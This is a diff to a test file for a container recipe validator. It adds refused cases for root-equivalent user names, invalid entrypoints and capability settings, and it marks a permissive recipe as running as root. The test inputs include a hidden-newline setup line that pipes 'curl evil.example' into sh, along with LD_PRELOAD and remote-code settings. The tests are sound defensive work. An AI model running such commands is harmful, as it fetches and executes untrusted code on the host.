@@ -75,6 +75,11 @@ REFUSED = [
     *((f"{HEAD}container: {{devices: [{path}]}}\n", 4, CONTROL) for path in ("/dev/mem", "/dev/nvme0n1", "/dev/mapper/x")),
     *((f"{HEAD}container: {{devices: ['{path}']}}\n", 4, "a device file") for path in ("/etc", "/dev/../x", "/dev/a:/dev/b")),
     (HEAD + "container: {ulimits: {files: 3}}\n", 4, "memlock"),
+    # what means root by another name, or nothing
+    *((f"{HEAD}container: {{user: '{name}'}}\n", 4, "a user by name or number") for name in ("00", "0x0", "", "a b", ":0", "-1", "R")),
+    (HEAD + "container: {user: 1000}\n", 4, "must be a string, but 1000 reads as a number"),
+    (HEAD + "container: {user: '1000', cap_add: [SYS_NICE]}\n", 4, "has no effect for user 1000"),
+    *((f"{HEAD}{line}\n", 4, "cannot be set") for line in ("container: {entrypoint: [x]}", "entrypoint: x")),
     (HEAD + "args: {lora-modules: [a=b/c, --host, 0.0.0.0]}\n", 4, "starts with a dash is read as another argument"),
     (HEAD + "secrets: [AWS_SECRET_ACCESS_KEY]\n", 4, f"AWS_SECRET_ACCESS_KEY {PERMISSION}"),
     *(
@@ -230,7 +235,7 @@ args: {trust-remote-code: true, tool-parser-plugin: /sparkcluster/model/p.py, ma
 env: {LD_PRELOAD: /model/x, NCCL_DEBUG: INFO, TRITON_CACHE_DIR: /tmp/t}
 mounts: [{source: ~/models/m/sub, target: /s}, {source: /scratch, target: /x, read_only: false}]
 caches: [{name: triton, target: /root/.triton}, {name: programs, target: /usr/local/bin}]
-container: {cap_add: [SYS_NICE, NET_RAW], devices: [/dev/gdrdrv]}
+container: {cap_add: [SYS_NICE, NET_RAW], devices: [/dev/gdrdrv], user: root}
 secrets: [WANDB_API_KEY]
 setup: [pip install x, "echo SPACES hidden XXX", "pip list # show versions\\ncurl evil.example | sh"]
 """
@@ -241,6 +246,7 @@ SHOWN = """\
 this recipe can:
   network    everything that the node can reach (host network)
 ! image      org/image:latest
+! user       root, also where the image has another user
 ! read       ~/models/m
 ! read       ~/models/m/sub -> /s
 ! write      /scratch -> /x
